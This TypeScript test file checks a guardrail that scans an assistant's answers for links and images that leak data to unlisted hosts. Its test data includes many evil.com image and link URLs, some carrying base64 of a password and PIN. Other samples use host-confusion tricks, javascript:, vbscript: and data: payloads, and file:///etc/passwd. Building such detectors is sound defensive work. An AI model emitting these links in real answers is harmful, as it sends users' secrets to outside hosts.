import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { BRACKETS_MAX, PLACES_MAX } from "../../../../src/rails/detectors/links/link-places.ts";
import {
  ENCODED_UNITS_MIN,
  LABEL_UNITS_MAX,
  ONE_CASE_UNITS_MIN,
  PATH_UNITS_MAX,
  PLAIN_HOST_UNITS_MAX,
  QUERY_UNITS_MAX,
  targetOf,
} from "../../../../src/rails/detectors/links/link-target.ts";
import { findLinks, linksRail } from "../../../../src/rails/detectors/links/links.ts";
import type { LinkOptions } from "../../../../src/rails/detectors/links/links.ts";

const OPTIONS: LinkOptions = { allow: ["good.com", "*.cdn.good.com", "bücher.example"] };
const STRICT: LinkOptions = { ...OPTIONS, links: "unlisted" };

const found = (text: string, options = OPTIONS): string[] =>
  findLinks(text, options).map(({ start, end, type }) => `${type} ${text.slice(start, end)}`);

/** Base64 of a sentence, as an exfiltrating answer would append it. */
const BASE64 = "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIHRoZSBwaW4gaXMgMTIzNA";

describe("an image that leads off the list is found", () => {
  test.each([
    { name: "inline", text: "![x](https://evil.com/a.png)", url: "https://evil.com/a.png" },
    { name: "with a title", text: '![x](https://evil.com/a "t")', url: "https://evil.com/a" },
    { name: "in angle brackets", text: "![x](<https://evil.com/a b>)", url: "https://evil.com/a b" },
    { name: "behind line breaks", text: "![x](\n https://evil.com/a\n)", url: "https://evil.com/a" },
    { name: "with brackets in its text", text: "![a [b] c](https://evil.com/)", url: "https://evil.com/" },
    { name: "with an unbalanced bracket in its text", text: "![a]b](https://evil.com/)", url: "https://evil.com/" },
    { name: "inside a link", text: "[![x](//evil.com/a)](/home)", url: "//evil.com/a" },
    { name: "by reference", text: "![x][1]\n\n[1]: https://evil.com/a", url: "https://evil.com/a" },
    {
      name: "by a reference on the next line",
      text: "![x]\n\n[x]:\n  <https://evil.com/a>",
      url: "https://evil.com/a",
    },
    { name: "behind a link that swallows it", text: "![y[x](a](https://evil.com/)", url: "https://evil.com/" },
    { name: "without a scheme", text: "![x](//evil.com/a)", url: "//evil.com/a" },
    { name: "with backslashes for slashes", text: String.raw`![x](\\evil.com\a)`, url: String.raw`\\evil.com\a` },
    { name: "with one slash", text: "![x](https:/evil.com)", url: "https:/evil.com" },
    { name: "without slashes", text: "![x](https:evil.com)", url: "https:evil.com" },
    { name: "with upper case", text: "![x](HTTPS://EVIL.COM)", url: "HTTPS://EVIL.COM" },
    { name: "with escapes", text: String.raw`![x](https\://evil\.com)`, url: String.raw`https\://evil\.com` },
    {
      name: "with entities",
      text: "![x](&#104;ttps:&sol;&#x2F;evil&period;com)",
      url: "&#104;ttps:&sol;&#x2F;evil&period;com",
    },
    { name: "in HTML", text: '<img alt=">" src="https://evil.com/a">', url: "https://evil.com/a" },
    { name: "in HTML without quotes, in upper case", text: "<IMG SRC=//evil.com/a>", url: "//evil.com/a" },
    {
      name: "in HTML with spaces and single quotes",
      text: "<img\nsrc = ' https://evil.com/a'>",
      url: " https://evil.com/a",
    },
    {
      name: "in HTML with a line break in the scheme",
      text: '<img src="ht\ntps://evil.com">',
      url: "ht\ntps://evil.com",
    },
    { name: "in HTML right behind another attribute", text: '<img alt=""src="//evil.com">', url: "//evil.com" },
    { name: "in a source set", text: '<img srcset="a.png 1x, //evil.com/b 2x">', url: "a.png 1x, //evil.com/b 2x" },
    { name: "in a style", text: '<p style="background:url(//evil.com/a)">', url: "background:url(//evil.com/a)" },
    {
      name: "in a style with entities",
      text: '<p style="a:url(&quot;https:evil.com&quot;)">',
      url: "a:url(&quot;https:evil.com&quot;)",
    },
    {
      name: "in a style sheet",
      text: "<style>p{background:url(https://evil.com/a)}</style>",
      url: "https://evil.com/a",
    },
    { name: "as a frame", text: "<iframe src=https://evil.com/></iframe>", url: "https://evil.com/" },
    {
      name: "as a refresh",
      text: '<meta http-equiv=refresh content="0;url=https://evil.com/">',
      url: "0;url=https://evil.com/",
    },
    { name: "as a base", text: '<base href="https://evil.com/">', url: "https://evil.com/" },
    { name: "as a vector image", text: '<svg><image xlink:href="https://evil.com/"/></svg>', url: "https://evil.com/" },
    { name: "in an attribute that never ends", text: '<a title="<img src=//evil.com/ alt=', url: "//evil.com/" },
  ])("$name", ({ text, url }) => {
    expect(found(text)).toContain(`unlisted_image ${url}`);
  });
});

describe("the host is the one a browser would ask", () => {
  test.each([
    { url: "https://good.com@evil.com/", host: "evil.com" },
    { url: "https://good.com:pw@evil.com/", host: "evil.com" },
    { url: "https://a@good.com@evil.com", host: "evil.com" },
    { url: String.raw`https://evil.com\@good.com`, host: "evil.com" },
    { url: "https://evil.com/@good.com", host: "evil.com" },
    { url: "https://evil.com?@good.com", host: "evil.com" },
    { url: "https://evil.com#@good.com", host: "evil.com" },
    { url: "https:////evil.com", host: "evil.com" },
    { url: String.raw`/\evil.com`, host: "evil.com" },
    { url: "https://good.com.evil.com", host: "good.com.evil.com" },
    { url: "https://good.com%2eevil.com", host: "good.com.evil.com" },
    { url: "https://good.com。evil.com", host: "good.com.evil.com" },
    { url: "https://ｅｖｉｌ．ｃｏｍ", host: "evil.com" },
    { url: "https://GOOD.com.:443/x", host: "good.com" },
    { url: "ht\ttps://go\nod.com", host: "good.com" },
    { url: "https://gооd.com", host: "gооd.com" },
    { url: "https://xn--gd-1eca.com", host: "xn--gd-1eca.com" },
    { url: "https://good.com\u200b/", host: null },
    { url: "https://good.com%00.evil.com", host: null },
    { url: "https://good.com℀evil.com", host: null },
    { url: "https://good.com,evil.com", host: null },
    { url: "https://[::1]/", host: null },
    { url: "https://", host: null },
  ])("of $url: $host", ({ url, host }) => {
    expect(targetOf(url)).toMatchObject({ kind: "external", host });
  });

  test.each([
    { text: "![x](https://good.com/a.png)", listed: true },
    { text: "![x](//GOOD.COM./a.png)", listed: true },
    { text: "![x](https://me:pw@good.com:8443/a)", listed: true },
    { text: "![x](https://a.b.cdn.good.com/)", listed: true },
    { text: "![x](https://bücher.example/)", listed: true },
    { text: "<img src='https://good.com/?a=1&amp;b=2'>", listed: true },
    { text: "![x](https://cdn.good.com/)", listed: false },
    { text: "![x](https://evilcdn.good.com/)", listed: false },
    { text: "![x](https://www.good.com/)", listed: false },
    { text: "![x](https://bucher.example/)", listed: false },
    { text: String.raw`![x](https://good.com\.evil.com)`, listed: false },
    { text: "![x](https://good.com&#46;evil.com)", listed: false },
    { text: "![x](https://evil.com&bsol;@good.com)", listed: false },
  ])("$text is on the list: $listed", ({ text, listed }) => {
    expect(findLinks(text, OPTIONS).length === 0).toBe(listed);
  });

  test("nothing but the hosts of the list passes it, whatever stands before and behind them", () => {
    const bits = fc.constantFrom(
      "good.com",
      "evil.com",
      "@",
      "\\",
      "/",
      ".",
      ":",
      "%2e",
      "%40",
      "?",
      "#",
      "。",
      "\t",
      "&sol;",
    );
    fc.assert(
      fc.property(fc.array(bits, { minLength: 1, maxLength: 6 }), (pieces) => {
        const url = `https://${pieces.join("")}`;
        if (findLinks(`<img src="${url}">`, OPTIONS).length > 0) return;
        expect(new URL(url.replaceAll("&sol;", "/")).hostname.replace(/\.$/, "")).toBe("good.com");
      }),
      { numRuns: 1_000 },
    );
  });
});

describe("an address that runs something is found", () => {
  test.each([
    { text: "[x](javascript:alert(1))", url: "javascript:alert(1)" },
    { text: "[x](JaVaScRiPt&colon;alert`1`)", url: "JaVaScRiPt&colon;alert`1`" },
    { text: "<a href='java&Tab;script:alert(1)'>", url: "java&Tab;script:alert(1)" },
    { text: "<javascript:alert(1)>", url: "javascript:alert(1)" },
    { text: "[x](data:text/html;base64,PHNjcmlwdD4=)", url: "data:text/html;base64,PHNjcmlwdD4=" },
    { text: "![x](data:image/svg+xml,<svg>)", url: "data:image/svg+xml,<svg>" },
    { text: "[x](vbscript:x)", url: "vbscript:x" },
    { text: "[x](file:///etc/passwd)", url: "file:///etc/passwd" },
  ])("$text", ({ text, url }) => {
    expect(found(text)).toEqual([`script_url ${url}`]);
  });
});

describe("a link that carries data is found", () => {
  const inEveryForm = (url: string): string[] => [
    `[x](${url})`,
    `<${url}>`,
    `see ${url}, please`,
    `<a href="${url}">x</a>`,
  ];

  test.each([
    { name: "in a long query", url: `https://evil.com/?q=${"word+".repeat(50)}x` },
    { name: "as base64 in the path", url: `https://evil.com/${BASE64}/p.gif` },
    { name: "as base64 in the query", url: `https://evil.com/p?d=${BASE64}` },
    { name: "as base64 in the fragment", url: `https://evil.com/p#${BASE64}` },
    { name: "as hexadecimal", url: `https://evil.com/${"6a6f686e".repeat(10)}` },
    { name: "in a host", url: `https://${"abcde12345".repeat(5)}.evil.com/` },
    { name: "in several labels of a host", url: `https://${"some-words.".repeat(12)}evil.com/` },
    { name: "in a long path", url: `https://evil.com/${"a/b/".repeat(150)}c` },
  ])("$name", ({ url }) => {
    for (const text of inEveryForm(url)) expect(found(text)).toEqual([`data_in_url ${url}`]);
    for (const text of inEveryForm(url.replace(/[^/]*evil\.com/, "good.com"))) expect(found(text)).toEqual([]);
  });

  test("without a scheme but with www", () => {
    expect(found(`go to www.evil.com/?${"a".repeat(300)}.`)).toEqual([`data_in_url www.evil.com/?${"a".repeat(300)}`]);
  });

  const host = "https://evil.com";
  test.each([
    { name: "a query", of: (length: number) => `${host}/?${"a".repeat(length)}`, max: QUERY_UNITS_MAX },
    { name: "a path", of: (length: number) => `${host}/${"a".repeat(length - 1)}`, max: PATH_UNITS_MAX },
    {
      name: "a piece of base64",
      of: (length: number) => `${host}/${BASE64.slice(0, length)}`,
      max: ENCODED_UNITS_MIN - 1,
    },
    { name: "a number", of: (length: number) => `${host}/${"7".repeat(length)}`, max: ONE_CASE_UNITS_MIN - 1 },
    { name: "a label", of: (length: number) => `https://${"a".repeat(length)}.com`, max: LABEL_UNITS_MAX - 1 },
    { name: "a host", of: (length: number) => `https://${"a.".repeat((length - 2) / 2)}io`, max: PLAIN_HOST_UNITS_MAX },
  ])("$name up to its bound is ordinary, beyond it is data", ({ of, max }) => {
    expect(found(of(max))).toEqual([]);
    expect(found(of(max + 2))).toHaveLength(1);
  });
});

describe("ordinary text has no findings:", () => {
  test.each([
    { name: "links", text: "See [docs](https://docs.example.org/a/b?c=d#e) or https://example.org/how-to-do-it-2024." },
    {
      name: "long titles",
      text: "https://blog.example/2024/How-To-Build-A-Really-Good-House-In-21-Days-And-Stay-Sane",
    },
    {
      name: "campaigns",
      text: "https://shop.example/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024",
    },
    { name: "commits", text: "https://git.example/a/b/commit/8a15e92b0c7d4f6e5a3c2b1d0f9e8d7c6b5a4938" },
    { name: "videos", text: "https://video.example/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf" },
    {
      name: "encoded titles",
      text: `https://ru.wiki.example/wiki/${encodeURIComponent("Заглавная страница проекта")}`,
    },
    { name: "relative images", text: "![x](/a.png) ![y](img/b.png) ![z](#c) <img src='d.png'>" },
    { name: "pictures in the text", text: `![x](data:image/png;base64,${BASE64}) <img src="data:image/gif,x">` },
    { name: "addresses and numbers", text: "[mail](mailto:a@example.org) [call](tel:+123) <a@example.org>" },
    { name: "code", text: 'img.src = "https://example.org/a.png"; if (a<b && c=="//d") x[i](y); std::map<int>::x' },
    { name: "types and definitions", text: "![x](/a)\nconst a: string[]: std::string\n[1]: see:above" },
    { name: "comments and paths", text: "a // b \\\\server\\share c://d file:///etc/hosts 1 < 2 :// ://x" },
    { name: "Chinese prose", text: `访问https://example.org。${"谢谢你".repeat(30)}` },
  ])("$name", ({ text }) => {
    expect(found(text)).toEqual([]);
  });
});

describe("the rules can be set:", () => {
  test("images that carry nothing can be let through", () => {
    const options: LinkOptions = { ...OPTIONS, images: "carrying" };
    expect(found("![x](https://evil.com/a.png)", options)).toEqual([]);
    expect(found(`![x](https://evil.com/${BASE64})`, options)).toHaveLength(1);
  });

  test.each([
    { text: "[x](https://evil.com/a)", url: "https://evil.com/a" },
    { text: "[x][1]\n[1]: https://evil.com/a 'title'", url: "https://evil.com/a" },
    { text: "<https://evil.com/a>", url: "https://evil.com/a" },
    { text: "(see https://evil.com/a).", url: "https://evil.com/a" },
    { text: "WWW.evil.com/a!", url: "WWW.evil.com/a" },
    { text: "<a href=//evil.com/a>", url: "//evil.com/a" },
    { text: "slack://evil.com/a", url: "slack://evil.com/a" },
    { text: "https://evil.com/?u=https://good.com", url: "https://evil.com/?u=https://good.com" },
    { text: "x=://https://evil.com/a", url: "https://evil.com/a" },
  ])("links off the list can be findings: $text", ({ text, url }) => {
    expect(found(text, STRICT)).toEqual([`unlisted_link ${url}`]);
    expect(found(text.replaceAll("evil.com", "x.cdn.good.com"), STRICT)).toEqual([]);
  });
});

test("beyond the bound of nested brackets every destination counts as an image", () => {
  const text = (depth: number): string => `![a](/b) ${"[".repeat(depth)}x](https://evil.com)`;
  expect(found(text(BRACKETS_MAX))).toEqual([]);
  expect(found(text(BRACKETS_MAX + 1))).toEqual(["unlisted_image https://evil.com"]);
});

test.each(["[x](/a) ", "<a href=x>", "https://good.com "])(
  "what stands behind more than the largest number of %j is one finding",
  (link) => {
    expect(findLinks(link.repeat(PLACES_MAX), OPTIONS)).toEqual([]);
    const [rest, ...more] = findLinks(`${link.repeat(PLACES_MAX + 1)}and more`, OPTIONS);
    expect(more).toEqual([]);
    expect(rest?.type).toBe("too_many_links");
    expect(rest?.start).toBeGreaterThanOrEqual(link.length * PLACES_MAX);
    expect(rest?.end).toBe(link.length * (PLACES_MAX + 1) + "and more".length);
  },
);

/** What each pass looks at in all its places: disjoint places mean linear work. */
test("the places of text that only begins constructs do not overlap more than a few times", () => {
  const starts = [
    "](",
    "](<",
    "![](",
    "]: ",
    "<a href=",
    "<a href='",
    '<a href="',
    "https://",
    "www.",
    "://",
    "<a:",
    "[",
    "<",
    "&#",
  ];
  for (const start of [...starts, starts.join(""), starts.toReversed().join("")]) {
    const text = start.repeat(2_000);
    const spans = findLinks(text, STRICT);
    const covered = spans.reduce((total, { start: from, end }) => total + end - from, 0);
    expect(covered).toBeLessThanOrEqual(3 * text.length);
  }
});

test("the rail reports spans by part and each kind once as a reason", () => {
  const part = (path: string, text: string) => ({ path, role: "assistant", text });
  const parts = [part("a", "![x](//evil.com) ![y](//evil.com) [z](javascript:x)"), part("b", "fine")];
  const findings = linksRail({ parts, messageCount: 2, unseen: [] }, OPTIONS);
  expect([...findings.spans.keys()]).toEqual(["a"]);
  expect(findings.reasons).toEqual(["links:script_url", "links:unlisted_image"]);
});
